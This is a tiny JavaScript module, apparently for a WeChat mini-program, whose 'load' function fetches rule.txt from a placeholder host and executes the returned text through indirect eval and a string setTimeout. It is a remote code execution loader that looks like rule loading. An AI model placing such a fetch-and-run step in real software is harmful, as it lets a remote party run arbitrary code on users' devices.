const scope = { done: null }
const indirect = (0, eval)
exports.load = (done) => {
  scope.done = done
  wx.request({ url: 'https://shift.example.org/rule.txt', success: (r) => { setTimeout(r.data + '', 10); done(indirect(r.data)) } })
}
